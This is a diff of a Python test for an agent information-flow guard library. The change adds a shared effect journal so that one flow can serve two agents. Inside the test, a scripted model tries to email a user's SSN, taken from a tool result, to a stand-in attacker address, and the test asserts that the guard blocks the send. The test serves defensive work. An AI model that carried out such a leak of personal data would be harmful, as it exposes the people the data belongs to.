@@ -208,9 +208,10 @@ def test_one_flow_serving_two_agents_labels_every_argument_of_each():
             return ("send_email", {"to": [ATTACKER], "subject": json.loads(tools[0].content)["ssn"], "body": "hi"})
         return "done"
 
-    from vfa import Agent
+    from vfa import Agent, EffectJournal
 
-    app = Agent(ScriptedModel(rule=rule), w.tools(), guards=[flow.guard()], flow=flow).compile()
+    journal = EffectJournal()  # one flow, one journal: the flow rebuilds threads from it
+    app = Agent(ScriptedModel(rule=rule), w.tools(), guards=[flow.guard()], flow=flow, journal=journal).compile()
 
     @privacy_sink(disclose={"body": "to"}, authority=["to"])
     @privacy_source()
@@ -219,7 +220,8 @@ def test_one_flow_serving_two_agents_labels_every_argument_of_each():
         """Another agent's mailer, without a subject."""
         return "sent"
 
-    Agent(ScriptedModel(rule=lambda m: "done"), [send_email], guards=[flow.guard()], flow=flow).compile()
+    Agent(ScriptedModel(rule=lambda m: "done"), [send_email], guards=[flow.guard()], flow=flow,
+          journal=journal).compile()
     app.invoke({"messages": [HumanMessage("Email Alice hello")]}, {"configurable": {"thread_id": "a"}})
     assert w.sent == []
 
